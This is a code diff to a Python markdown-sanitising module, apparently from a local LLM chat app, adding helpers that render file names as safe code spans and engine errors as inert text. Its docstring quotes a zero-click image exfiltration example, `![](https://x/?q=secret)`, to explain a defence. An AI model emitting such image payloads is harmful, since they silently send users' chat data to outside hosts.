@@ -4,7 +4,8 @@ Model output, retrieved passages, memories, file names and GGUF metadata are unt
 (see ARCHITECTURE.md, trust boundaries). Two levels:
 
 - ``escape_text``: inert text. No HTML, links, images, emphasis or code spans survive.
-  For names, snippets, captions, summaries and error messages.
+  For names, snippets, captions, summaries and error messages (``error_markdown``), or
+  ``code_span`` for a file name shown as code.
 - ``safe_markdown``: model answers keep their markdown (bold, lists, code blocks, links), but
   raw HTML is shown as text and image syntax never becomes an ``<img>``: a remote image
   would be a zero-click request that carries chat data out (``![](https://x/?q=secret)``).
@@ -15,6 +16,8 @@ from __future__ import annotations
 
 import html
 import re
+
+from engine.errors import EngineError
 
 #: markdown characters that start emphasis, links, images, code, headings, tables or escapes
 _MARKDOWN_SPECIALS = "\\`*_[]#|!~"
@@ -43,6 +46,18 @@ def escape_text(text: object) -> str:
 def escape_inline(text: object) -> str:
     """Like ``escape_text`` on one line: newlines become spaces (table cells, headings)."""
     return escape_text(" ".join(str(text).split()))
+
+
+def code_span(text: object) -> str:
+    """A name (a file name) as an inline code span: nothing inside can end the span early
+    (a backtick, a blank line), and code spans render no markup."""
+    return "`" + (" ".join(str(text).replace("`", "'").split()) or "?") + "`"
+
+
+def error_markdown(error: EngineError) -> str:
+    """An engine error as the page shows it: its title in bold, then its message, both inert
+    (messages quote file names, model names and server replies, which are untrusted)."""
+    return f"⚠️ **{escape_text(error.title)}**: {escape_text(error)}"
 
 
 def safe_markdown(text: str) -> str:
